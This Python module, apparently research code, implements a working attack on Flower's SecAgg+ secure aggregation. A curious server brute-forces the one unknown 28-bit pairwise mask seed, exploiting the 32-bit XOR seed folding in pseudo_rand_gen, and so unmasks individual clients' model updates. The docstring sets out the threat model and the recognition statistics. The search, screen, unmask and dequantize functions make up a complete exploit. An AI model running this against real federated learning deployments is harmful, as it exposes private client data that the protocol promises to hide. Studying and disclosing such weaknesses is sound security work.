"""Recovering one client's update from SecAgg+ by brute-forcing one pairwise mask seed.

How Flower 1.41's `secaggplus_mod` forms client u's upload (stage `collect_masked_vectors`),
with M = `mod_range` (2**32 by default) and Q = `quantization_range` (fedmem: 2**22):

    x_u = [q_ratio] + quantize(update * q_ratio / Q, clipping_range, Q)   values in [0, Q]
    y_u = x_u + PRG(b_u) + sum_{v < u} PRG(s_uv) - sum_{v > u} PRG(s_uv)   (mod M)

`PRG` is `pseudo_rand_gen(seed, M, shapes)`: it XOR-folds the seed bytes to a 32-bit integer,
seeds numpy's MT19937 (`np.random.RandomState`) with it and draws `randint(0, M - 1)` for
every value in order, so a mask depends on 32 bits however long its key. `b_u` is the
client's private-mask seed (32 random bytes); `s_uv` the pairwise key with neighbour v, the
urlsafe base64 text of an ECDH+HKDF key (44 bytes, all < 0x80), so its fold has bit 7 of
every byte clear: 28 bits, `REACHABLE_BITS`. `q_ratio` = round(num_examples / max_weight * Q).

Threat model: an honest-but-curious server, following Flower's protocol, which learns

- y_u, as every client uploads it;
- b_u, for every client that survives to the unmask stage: it reconstructs the seed from the
  neighbours' shares (`unmask_stage`), by design;
- s_uv for every neighbour v but one (w): for a v that drops after the key shares were sent,
  the protocol itself hands the server v's secret key (sk1 shares), so every s_uv; a v that
  colludes with the server simply tells it s_uv;
- the public facts: M, Q, the clipping range, the shapes, node ids (so the sign of each mask).

It brute-forces the remaining seed fold(s_uw) over a `SeedSpace`. Without b_u, or with two
pairwise seeds unknown, every candidate's residual looks uniform and this test cannot
recognise the right one (the search would be over 2**56 pairs). With fold(s_uw) found the
server has x_u, and x_w too (w's upload has the same mask with the opposite sign): with three
clients and one dropped, the two individual updates SecAgg+ was to hide behind their sum.

Recognising the seed without the answer: the residual r = y_u - PRG(b_u) -+ known masks
(mod M) is x_u +- PRG(fold(s_uw)). For a candidate c, x_c = r -+ PRG(c) (mod M). The true seed
gives x_u, every value in [0, Q] (quantization clips: any update passes). A wrong seed's
PRG(c) is independent of the true mask, so each x_c value is uniform over M - 1 residues and
lands in [0, Q] with probability p <= (Q + 1) / (M - 1) (about 2**-10 for fedmem). The screen
tests the first `screen_values` parameter values (the q_ratio slot is skipped: it exceeds Q
when num_examples > max_weight): false-positive rate p ** screen_values per candidate. A
candidate that passes is then confirmed on the whole vector (rate p ** n), so a false
recovery over N candidates has probability at most N * p ** n. Only the screen's prefix of
each candidate mask is generated; the full mask only for candidates that pass.

Masks are built by calling Flower's `pseudo_rand_gen` (a 4-byte key folds to itself, so
`seed_key(c)` is the candidate seed). Two engines screen candidates: "flower" calls it for
every candidate (tens of µs each, mostly building numpy's RandomState); "batched" computes
the same prefix values for thousands of seeds at once (`attacks.mt19937`, checked against
`pseudo_rand_gen` in the tests), as an attacker who cares about speed would. Either way the
full mask of a candidate that passes the screen, and so every recovered update, comes from
`pseudo_rand_gen`.
"""

from __future__ import annotations

import math
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

import numpy as np
from flwr.common.secure_aggregation.ndarrays_arithmetic import (
    factor_extract,
    parameters_addition,
    parameters_mod,
    parameters_subtraction,
)
from flwr.common.secure_aggregation.quantization import dequantize
from flwr.common.secure_aggregation.secaggplus_utils import pseudo_rand_gen
from numpy.typing import NDArray

from attacks.mt19937 import randint_prefix

Ints = NDArray[np.int64]
Floats = NDArray[np.float64]

# Bits a folded pairwise key can have set: base64 text has bit 7 of every byte clear.
REACHABLE_BITS = 0x7F7F7F7F
ALL_BITS = 0xFFFFFFFF
ENGINES = ("flower", "batched")
BATCH = {"flower": 4096, "batched": 16384}  # candidates screened per numpy step


@dataclass(frozen=True)
class Quantization:
    """SecAgg+'s public parameters (Flower's and fedmem's defaults)."""

    clipping_range: float = 8.0
    target_range: int = 2**22
    mod_range: int = 2**32


@dataclass(frozen=True)
class ServerView:
    """What the server holds about client `node_id` after the unmask stage."""

    masked: Sequence[Ints]  # y_u, as uploaded: [q_ratio slot] + one array per tensor
    node_id: int
    self_mask_seed: bytes  # b_u, reconstructed from the neighbours' shares
    known_pairwise: Mapping[int, bytes]  # neighbour id -> s_uv (dropped or colluding v)
    unknown_neighbour: int  # w: fold(s_uw) is what is searched
    quantization: Quantization = Quantization()


@dataclass(frozen=True)
class Recovery:
    """The outcome of a search: `quantized` is x_u when exactly one seed was confirmed."""

    seed: int | None
    quantized: list[Ints] | None
    tried: int
    seconds: float  # wall
    cpu_seconds: float  # this process's CPU time: what a busy shared machine does not stretch
    screen_hits: int  # candidates that passed the prefix screen
    confirmed: int  # candidates that passed the full-vector check

    @property
    def us_per_candidate(self) -> float:
        return 1e6 * self.seconds / max(self.tried, 1)

    @property
    def cpu_us_per_candidate(self) -> float:
        return 1e6 * self.cpu_seconds / max(self.tried, 1)


def fold_seed(key: bytes) -> int:
    """The 32-bit integer `pseudo_rand_gen` seeds MT19937 with: the XOR of 4-byte words."""
    seed = 0
    for i in range(0, len(key), 4):
        seed ^= int.from_bytes(key[i : i + 4], "little")
    return seed


def seed_key(seed: int) -> bytes:
    """A key that `pseudo_rand_gen` folds to `seed`: its 4 little-endian bytes."""
    return int(seed).to_bytes(4, "little")


def flat(arrays: Sequence[Ints]) -> Ints:
    """All values in upload order: the order `pseudo_rand_gen` draws mask values in."""
    return np.concatenate([np.asarray(a, dtype=np.int64).ravel() for a in arrays])


def mask_prefix(seed: int, mod_range: int, count: int) -> Ints:
    """The first `count` values of the mask `pseudo_rand_gen` draws from `seed`."""
    return pseudo_rand_gen(seed_key(seed), mod_range, [(count,)])[0]


def mask_sign(node_id: int, neighbour: int) -> int:
    """+1 if client `node_id` adds its pairwise mask with `neighbour`, -1 if it subtracts."""
    return 1 if node_id > neighbour else -1


def residual(view: ServerView) -> list[Ints]:
    """y_u with b_u's and every known pairwise mask removed: x_u +- PRG(fold(s_uw)) mod M."""
    m = view.quantization.mod_range
    shapes = [np.shape(a) for a in view.masked]
    masked = [np.asarray(a, dtype=np.int64) for a in view.masked]
    out = parameters_subtraction(masked, pseudo_rand_gen(view.self_mask_seed, m, shapes))
    for neighbour, key in view.known_pairwise.items():
        mask = pseudo_rand_gen(key, m, shapes)
        if mask_sign(view.node_id, neighbour) > 0:
            out = parameters_subtraction(out, mask)
        else:
            out = parameters_addition(out, mask)
    return parameters_mod(out, m)


def in_range_probability(q: Quantization) -> float:
    """p: the chance one value of a wrong candidate's x_c lies in [0, Q] (an upper bound)."""
    return min(1.0, (q.target_range + 1) / (q.mod_range - 1))


def log2_false_positive_rate(q: Quantization, values: int) -> float:
    """log2 of the chance a wrong candidate passes a test of `values` values: p ** values."""
    return values * math.log2(in_range_probability(q))


def screen(window: Ints, masks: Ints, sign: int, q: Quantization) -> NDArray[np.bool_]:
    """Which candidates' unmasked windows lie wholly in [0, Q]; `masks` is (candidates, k)."""
    unmasked = np.mod(window[None, :] - sign * masks, q.mod_range)
    return np.all(unmasked <= q.target_range, axis=1)


def unmask_with_seed(view: ServerView, seed: int, rest: list[Ints] | None = None) -> list[Ints]:
    """x_u if `seed` is fold(s_uw): the residual with that seed's full mask removed."""
    r = residual(view) if rest is None else rest
    m = view.quantization.mod_range
    mask = pseudo_rand_gen(seed_key(seed), m, [np.shape(a) for a in r])
    if mask_sign(view.node_id, view.unknown_neighbour) > 0:
        return parameters_mod(parameters_subtraction(r, mask), m)
    return parameters_mod(parameters_addition(r, mask), m)


def plausible(quantized: Sequence[Ints], q: Quantization) -> bool:
    """The full-vector check: every parameter value (the q_ratio slot aside) within [0, Q]."""
    return bool(np.all(flat(quantized[1:]) <= q.target_range))


@dataclass(frozen=True)
class SeedSpace:
    """The seeds searched: `fixed` outside `free_mask`, every combination of bits inside it."""

    fixed: int
    free_mask: int

    @property
    def positions(self) -> list[int]:
        return [j for j in range(32) if self.free_mask >> j & 1]

    @property
    def bits(self) -> int:
        return len(self.positions)

    def __len__(self) -> int:
        return 1 << self.bits

    def candidates(self, start: int, stop: int) -> NDArray[np.uint64]:
        """Seeds number start..stop-1: index i's bits deposited into the free positions."""
        index = np.arange(start, stop, dtype=np.uint64)
        seeds = np.full(index.shape, self.fixed & ~self.free_mask, dtype=np.uint64)
        for t, j in enumerate(self.positions):
            seeds |= ((index >> np.uint64(t)) & np.uint64(1)) << np.uint64(j)
        return seeds

    def __contains__(self, seed: int) -> bool:
        return (seed & ~self.free_mask) == (self.fixed & ~self.free_mask)


def full_pairwise_space() -> SeedSpace:
    """Every seed a folded pairwise key can take: 2**28, not 2**32."""
    return SeedSpace(0, REACHABLE_BITS)


def reduced_space(hint: int, bits: int, reachable: int = REACHABLE_BITS) -> SeedSpace:
    """The experiment's space: the `bits` lowest reachable bits free, the others as in `hint`.

    The reduction is the experiment's only concession (the attacker is handed 28 - bits of the
    seed's bits); a candidate costs the same wherever its free bits are."""
    positions = [j for j in range(32) if reachable >> j & 1]
    if not 0 < bits <= len(positions):
        raise ValueError(f"bits = {bits}: must be in 1..{len(positions)}")
    free = sum(1 << j for j in positions[:bits])
    return SeedSpace(hint & ~free, free)


def screen_masks(
    seeds: NDArray[np.uint64], mod_range: int, count: int, engine: str = "flower"
) -> Ints:
    """(len(seeds), count): each seed's mask values 1..count (slot 0 is q_ratio's)."""
    if engine == "batched":
        return randint_prefix(seeds, mod_range, count + 1)[:, 1:]
    return np.stack([mask_prefix(int(s), mod_range, count + 1)[1:] for s in seeds])


def search(
    view: ServerView, space: SeedSpace, screen_values: int = 64, engine: str = "flower"
) -> Recovery:
    """Try every seed in `space`; x_u if exactly one passes the screen and the full check."""
    if engine not in ENGINES:
        raise ValueError(f"engine {engine!r}: one of {ENGINES}")
    q = view.quantization
    rest = residual(view)
    window = flat(rest)[1 : 1 + screen_values]
    sign = mask_sign(view.node_id, view.unknown_neighbour)
    found: list[tuple[int, list[Ints]]] = []
    hits = 0
    start_wall, start_cpu = time.perf_counter(), time.process_time()
    for start in range(0, len(space), BATCH[engine]):
        seeds = space.candidates(start, min(start + BATCH[engine], len(space)))
        masks = screen_masks(seeds, q.mod_range, len(window), engine)
        passed = seeds[screen(window, masks, sign, q)]
        hits += len(passed)
        for seed in passed.tolist():
            quantized = unmask_with_seed(view, seed, rest)
            if plausible(quantized, q):
                found.append((seed, quantized))
    wall, cpu = time.perf_counter() - start_wall, time.process_time() - start_cpu
    seed, quantized = found[0] if len(found) == 1 else (None, None)
    return Recovery(seed, quantized, len(space), wall, cpu, hits, len(found))


def dequantized_update(quantized: Sequence[Ints], q: Quantization) -> list[Floats]:
    """The client's float update from x_u: dequantized, then divided by q_ratio / Q."""
    q_ratio, values = factor_extract(list(quantized))
    update = dequantize(values, q.clipping_range, q.target_range)
    return [a * (q.target_range / float(q_ratio)) for a in update]
